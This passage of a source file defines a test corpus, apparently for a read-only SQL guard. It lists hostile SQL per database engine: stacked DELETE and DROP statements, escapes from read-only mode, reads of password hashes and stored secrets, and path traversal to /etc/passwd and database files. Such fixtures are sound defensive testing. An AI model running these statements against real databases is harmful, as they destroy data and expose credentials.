    ['SELECT 1; COMMIT; DELETE FROM customers', 'a read, a COMMIT, then a DELETE'],
    ["SELECT 1; COMMIT; BEGIN; UPDATE customers SET name = 'x'; COMMIT", 'a second transaction that writes'],
    ['commit;drop table customers', 'lower case without spaces'],
    ['COMMIT/**/;/**/DROP TABLE customers', 'comments around the semicolon'],
    ['COMMIT WORK', 'COMMIT WORK'],
    ['END', 'END'],
    ['END TRANSACTION', 'END TRANSACTION'],
  ]),
  ...group('transaction control', SERVERS, [
    ['START TRANSACTION', 'START TRANSACTION'],
    ['START TRANSACTION READ WRITE', 'START TRANSACTION READ WRITE'],
    ['SET TRANSACTION READ WRITE', 'SET TRANSACTION READ WRITE'],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'SET TRANSACTION ISOLATION LEVEL'],
    ['ROLLBACK; SET TRANSACTION READ WRITE; DELETE FROM customers', 'leaving read-only mode, then a DELETE'],
    ['COMMIT AND CHAIN', 'COMMIT AND CHAIN'],
  ]),
  ...group('transaction control', POSTGRES, [
    ['BEGIN TRANSACTION READ WRITE', 'BEGIN READ WRITE'],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'SET SESSION CHARACTERISTICS'],
    ['SET default_transaction_read_only = off', 'SET default_transaction_read_only'],
    ['SET transaction_read_only = off', 'SET transaction_read_only'],
    ['ABORT', 'ABORT'],
    ["PREPARE TRANSACTION 'text2x_corpus'", 'PREPARE TRANSACTION'],
    ["COMMIT PREPARED 'text2x_corpus'", 'COMMIT PREPARED'],
    ["ROLLBACK PREPARED 'text2x_corpus'", 'ROLLBACK PREPARED'],
  ]),
  ...group('transaction control', MYSQL, [
    ['SET SESSION TRANSACTION READ WRITE', 'SET SESSION TRANSACTION READ WRITE'],
    ['SET @@session.transaction_read_only = 0', 'SET @@session.transaction_read_only'],
    ['SET autocommit = 1', 'SET autocommit'],
    ["XA START 'text2x_corpus'", 'XA START'],
    ["XA END 'text2x_corpus'", 'XA END'],
    ["XA COMMIT 'text2x_corpus'", 'XA COMMIT'],
    ['BEGIN WORK', 'BEGIN WORK'],
  ]),
  ...group('transaction control', SQLITE, [
    ['BEGIN IMMEDIATE', 'BEGIN IMMEDIATE takes a write lock'],
    ['BEGIN EXCLUSIVE', 'BEGIN EXCLUSIVE locks out readers'],
  ]),

  // ── Session state and settings ─────────────────────────────────────────────────────────────
  ...group('session state', POSTGRES, [
    ['SET statement_timeout = 0', 'SET statement_timeout lifts the time limit'],
    ['SET LOCAL statement_timeout = 0', 'SET LOCAL statement_timeout'],
    ['SET search_path TO text2x_corpus_evil', 'SET search_path'],
    ['SET ROLE postgres', 'SET ROLE'],
    ['SET SESSION AUTHORIZATION postgres', 'SET SESSION AUTHORIZATION'],
    ['RESET ALL', 'RESET ALL'],
    ['RESET statement_timeout', 'RESET statement_timeout'],
    ['DISCARD ALL', 'DISCARD ALL'],
    ['LISTEN text2x_corpus', 'LISTEN'],
    ['NOTIFY text2x_corpus', 'NOTIFY'],
    ['UNLISTEN *', 'UNLISTEN'],
    ["LOAD 'auto_explain'", 'LOAD loads a shared library'],
  ]),
  ...group('session state', MYSQL, [
    ['SET max_statement_time = 0', 'SET max_statement_time lifts the time limit'],
    ['SET SESSION max_execution_time = 0', 'SET max_execution_time'],
    ["SET sql_mode = ''", 'SET sql_mode'],
    ['SET GLOBAL general_log = ON', 'SET GLOBAL changes the server'],
    ['SET NAMES latin1', 'SET NAMES'],
    ['SET @x = 1', 'SET a user variable'],
    ['KILL QUERY 999999999', 'KILL QUERY'],
    ['KILL 999999999', 'KILL'],
  ]),
  ...group('session state', DUCKDB, [
    ['SET threads = 1', 'SET threads'],
    ['SET enable_external_access = true', 'SET enable_external_access'],
    ["SET access_mode = 'READ_WRITE'", 'SET access_mode'],
    ['SET allow_unsigned_extensions = true', 'SET allow_unsigned_extensions'],
    ['RESET threads', 'RESET'],
    ['SET VARIABLE text2x_corpus = 1', 'SET VARIABLE'],
    ['PRAGMA enable_profiling', 'PRAGMA enable_profiling'],
    ['PRAGMA threads = 1', 'PRAGMA threads'],
    ['USE memory', 'USE switches the database'],
    ["SET GLOBAL search_path = 'text2x_corpus_evil'", 'SET GLOBAL search_path'],
  ]),
  ...group('session state', SQLITE, [
    ['PRAGMA writable_schema = 1', 'PRAGMA that allows editing the schema table'],
    ['PRAGMA main.writable_schema = ON', 'schema-qualified PRAGMA'],
    ['PRAGMA journal_mode = WAL', 'PRAGMA that changes the file format'],
    ['PRAGMA query_only = 0', 'PRAGMA that lifts query_only'],
    ['pragma user_version = 5', 'PRAGMA that writes the header'],
    ['PRAGMA schema_version = 1', 'PRAGMA that corrupts the schema cookie'],
    ['PRAGMA foreign_keys = OFF', 'PRAGMA foreign_keys'],
    ["PRAGMA temp_store_directory = '/tmp'", 'PRAGMA temp_store_directory'],
    ['PRAGMA wal_checkpoint(TRUNCATE)', 'PRAGMA wal_checkpoint'],
    ['PRAGMA optimize', 'PRAGMA optimize'],
    ['PRAGMA incremental_vacuum', 'PRAGMA incremental_vacuum'],
    ['PRAGMA trusted_schema = ON', 'PRAGMA trusted_schema'],
    ['PRAGMA table_info(customers)', 'PRAGMA read', SQLITE],
    ["SELECT * FROM pragma_table_info('customers')", 'pragma table-valued function', SQLITE],
    ['SELECT * FROM pragma_database_list', 'pragma table-valued function naming the file', SQLITE],
  ]),

  // ── Procedural code, prepared statements, EXPLAIN ──────────────────────────────────────────
  ...group('procedural code', POSTGRES, [
    ['DO $$ BEGIN DELETE FROM customers; END $$', 'DO runs an anonymous block'],
    ["DO 'BEGIN PERFORM pg_sleep(10); END'", 'DO with a quoted body'],
    ["DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$", 'DO with dynamic SQL'],
    ['PREPARE text2x_corpus AS DELETE FROM customers', 'PREPARE a write'],
    ['PREPARE text2x_corpus_read AS SELECT 1', 'PREPARE a read'],
    ['DEALLOCATE ALL', 'DEALLOCATE'],
    ['DECLARE text2x_corpus_cursor CURSOR FOR SELECT * FROM customers', 'DECLARE CURSOR'],
    ['FETCH ALL FROM text2x_corpus_cursor', 'FETCH'],
    ['CLOSE text2x_corpus_cursor', 'CLOSE'],
    ['EXPLAIN ANALYZE SELECT pg_sleep(10)', 'EXPLAIN ANALYZE runs the query'],
    ['EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customers', 'EXPLAIN with options runs a write'],
  ]),
  ...group('procedural code', MYSQL, [
    ["PREPARE text2x_corpus FROM 'DELETE FROM customers'", 'PREPARE a write'],
    ["EXECUTE IMMEDIATE 'DELETE FROM customers'", 'EXECUTE IMMEDIATE'],
    ["EXECUTE IMMEDIATE CONCAT('DROP ', 'TABLE customers')", 'EXECUTE IMMEDIATE of a computed string'],
    ['DEALLOCATE PREPARE text2x_corpus', 'DEALLOCATE PREPARE'],
    ['BEGIN NOT ATOMIC DELETE FROM customers; END', 'an anonymous compound statement'],
    ['ANALYZE DELETE FROM customers', 'ANALYZE runs the statement'],
    ["ANALYZE FORMAT=JSON UPDATE customers SET name = 'x'", 'ANALYZE FORMAT=JSON runs an UPDATE'],
    ['DESCRIBE DELETE FROM customers', 'DESCRIBE of a write'],
    ['SHOW TABLES', 'SHOW only reads', MYSQL],
    ['DESCRIBE customers', 'DESCRIBE of a table only reads', MYSQL],
  ]),
  ...group('procedural code', SERVERS, [['EXECUTE text2x_corpus', 'EXECUTE a prepared statement']]),
  ...group('procedural code', ALL, [
    ['EXPLAIN ANALYZE DELETE FROM customers', 'EXPLAIN ANALYZE runs the write'],
    ['EXPLAIN DELETE FROM customers', 'EXPLAIN of a write'],
    ['EXPLAIN SELECT * FROM customers', 'EXPLAIN of a read only plans', ALL],
  ]),
  ...group('procedural code', SQLITE, [['EXPLAIN QUERY PLAN DELETE FROM customers', 'EXPLAIN QUERY PLAN']]),
  ...group('procedural code', DUCKDB, [
    ["SELECT * FROM query_table('customers')", 'query_table of an existing table only reads', DUCKDB],
    ['SUMMARIZE customers', 'SUMMARIZE only reads', DUCKDB],
    ['CALL pragma_version()', 'CALL of a table function', DUCKDB],
  ]),

  // ── Maintenance statements ─────────────────────────────────────────────────────────────────
  ...group('maintenance', ALL, [
    ['VACUUM', 'VACUUM rewrites tables'],
    ['ANALYZE', 'ANALYZE writes statistics'],
    ['ANALYZE customers', 'ANALYZE of a table'],
  ]),
  ...group('maintenance', SQLITE, [
    ['REINDEX', 'REINDEX'],
    ['REINDEX customers', 'REINDEX of a table'],
  ]),
  ...group('maintenance', POSTGRES, [
    ['VACUUM FULL customers', 'VACUUM FULL'],
    ['VACUUM ANALYZE', 'VACUUM ANALYZE'],
    ['REINDEX TABLE customers', 'REINDEX TABLE'],
    ['CLUSTER customers USING customers_pkey', 'CLUSTER rewrites a table'],
    ['REFRESH MATERIALIZED VIEW customer_order_totals', 'REFRESH MATERIALIZED VIEW'],
  ]),
  ...group('maintenance', POSTGRES_DUCKDB, [['CHECKPOINT', 'CHECKPOINT']]),
  ...group('maintenance', DUCKDB, [['FORCE CHECKPOINT', 'FORCE CHECKPOINT']]),
  ...group('maintenance', MYSQL, [
    ['OPTIMIZE TABLE customers', 'OPTIMIZE TABLE rebuilds a table'],
    ['REPAIR TABLE customers', 'REPAIR TABLE'],
    ['ANALYZE TABLE customers', 'ANALYZE TABLE'],
    ['CHECK TABLE customers', 'CHECK TABLE only reads', MYSQL],
    ['CHECKSUM TABLE customers', 'CHECKSUM TABLE only reads', MYSQL],
    ['FLUSH TABLES', 'FLUSH TABLES'],
    ['FLUSH PRIVILEGES', 'FLUSH PRIVILEGES'],
    ['FLUSH LOGS', 'FLUSH LOGS'],
    ['RESET QUERY CACHE', 'RESET QUERY CACHE'],
    ["PURGE BINARY LOGS BEFORE '2000-01-01'", 'PURGE BINARY LOGS'],
    ['CACHE INDEX customers IN default', 'CACHE INDEX'],
    ['LOAD INDEX INTO CACHE customers', 'LOAD INDEX INTO CACHE'],
    ["INSTALL PLUGIN text2x_corpus_missing SONAME 'text2x_corpus_missing.so'", 'INSTALL PLUGIN'],
    ["INSTALL SONAME 'text2x_corpus_missing'", 'INSTALL SONAME'],
    ['UNINSTALL PLUGIN text2x_corpus_missing', 'UNINSTALL PLUGIN'],
    ["BINLOG 'text2x'", 'BINLOG replays events'],
    ['STOP ALL SLAVES', 'STOP ALL SLAVES'],
  ]),

  // ── Reading what a query must not see ──────────────────────────────────────────────────────
  ...group('privileged read', POSTGRES, [
    ['SELECT rolname, rolpassword FROM pg_authid', 'password hashes from pg_authid'],
    ['SELECT usename, passwd FROM pg_shadow', 'password hashes from pg_shadow'],
    ['SELECT * FROM pg_catalog.pg_authid', 'schema-qualified pg_authid'],
    ["SELECT table_to_xml('pg_authid', true, false, '')", 'table_to_xml of pg_authid past the name check'],
    ["SELECT database_to_xml(true, true, '')", 'database_to_xml dumps every table'],
    ['SELECT * FROM pg_hba_file_rules', 'the authentication configuration'],
    ['SELECT * FROM pg_file_settings', 'the configuration files'],
    ['SELECT query FROM pg_stat_activity', 'the statements of other sessions'],
  ]),
  ...group('privileged read', MYSQL, [
    ['SELECT User, authentication_string FROM mysql.user', 'password hashes from mysql.user'],
    ['SELECT * FROM mysql.global_priv', 'accounts from mysql.global_priv'],
    ['SELECT * FROM `mysql`.`user`', 'backticked mysql.user'],
    ['SELECT * FROM information_schema.PROCESSLIST', 'the statements of other sessions'],
    ['SELECT * FROM performance_schema.threads', 'server internals'],
    ['SELECT @@datadir', 'server paths from system variables'],
  ]),
  ...group('privileged read', DUCKDB, [['SELECT * FROM duckdb_secrets()', 'stored secrets']]),

  // ── Data outside the configured database, schemas or files ─────────────────────────────────
  ...group('outside the data source', MYSQL, [
    ['SELECT * FROM {{other_database}}.secrets', 'a table in another database on the same server'],
    ['SELECT secret FROM `{{other_database}}`.`secrets`', 'a backticked table in another database'],
    [
      'SELECT c.name, s.secret FROM customers c JOIN {{other_database}}.secrets s ON s.id = c.customer_id',
      'a join with a table in another database',
    ],
    [
      'SELECT name FROM customers WHERE customer_id IN (SELECT id FROM {{other_database}}.secrets)',
      'another database in a subquery',
    ],
    ['SELECT * FROM seq_1_to_10', 'a Sequence-engine table that is not in the schema'],
  ]),
  ...group('outside the data source', POSTGRES, [
    ['SELECT * FROM {{other_schema}}.secrets', 'a table in a schema outside the configured ones'],
    ['SELECT secret FROM "{{other_schema}}"."secrets"', 'a quoted table in another schema'],
    [
      'SELECT c.name, s.secret FROM customers c JOIN {{other_schema}}.secrets s ON s.id = c.customer_id',
      'a join with a table in another schema',
    ],
    ['SELECT * FROM secrets', 'an unqualified table of another schema'],
  ]),
  ...group('outside the data source', DUCKDB, [
    ["SELECT * FROM read_csv('{{data_dir}}/regions.csv')", 'the configured file itself', DUCKDB],
    ["SELECT * FROM '{{data_dir}}/regions.csv'", 'the configured file as a table name', DUCKDB],
    ["SELECT * FROM read_csv('{{data_dir}}/../shop.duckdb')", 'climbing out of the data folder with ..'],
    [
      "SELECT * FROM read_text('{{data_dir}}/regions.csv/../../shop.duckdb')",
      'climbing out through the file name',
    ],
    ["SELECT * FROM read_text('{{data_dir}}/./../shop.duckdb')", 'climbing out with ./..'],
    ["SELECT * FROM read_csv('{{data_dir}}//..//shop.duckdb')", 'climbing out with doubled slashes'],
    ["SELECT * FROM read_csv('{{data_dir}}/*')", 'a glob wider than the configured file'],
    ["SELECT * FROM read_csv('{{data_dir}}/../**')", 'a recursive glob above the data folder'],
    [
      "SELECT * FROM read_csv(['{{data_dir}}/regions.csv', '/etc/passwd'])",
      'an allowed file listed with a forbidden one',
    ],
    ["SELECT * FROM read_csv('file://{{data_dir}}/../shop.duckdb')", 'a file:// URL out of the data folder'],
    ["SELECT * FROM read_blob('{{data_dir}}/../shop.duckdb')", 'the raw database file through read_blob'],
    [`COPY customers TO '{{data_dir}}/text2x-corpus-evil.csv'`, 'COPY into the data folder'],
  ]),
];
